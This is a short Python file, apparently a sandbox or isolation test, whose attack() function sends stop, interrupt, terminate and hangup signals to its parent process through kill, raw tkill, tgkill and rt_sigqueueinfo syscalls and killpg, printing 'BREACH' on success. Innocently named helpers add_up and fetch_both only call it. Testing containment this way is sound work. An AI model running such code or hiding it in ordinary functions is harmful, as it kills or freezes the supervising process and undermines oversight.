# Stops, interrupts and hangs up the process that made it, by every call that sends signals.
# needs: isolation
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    parent = os.getppid()
    numbers = {"tkill": 200, "tgkill": 234, "rt_sigqueueinfo": 129, "rt_tgsigqueueinfo": 297}
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        results = [
            libc.kill(parent, number) if parent else -1,
            libc.syscall(numbers["tkill"], parent, number) if parent else -1,
            libc.syscall(numbers["tgkill"], parent, parent, number) if parent else -1,
            libc.syscall(numbers["rt_sigqueueinfo"], parent, number, ctypes.create_string_buffer(128)) if parent else -1,
            libc.killpg(parent, number) if parent else -1,
        ]
        if 0 in results:
            print("BREACH: signalled", results)



def add_up(numbers):
    return attack()


async def fetch_both(fetch):
    return attack()


if __name__ == "__main__":
    attack()
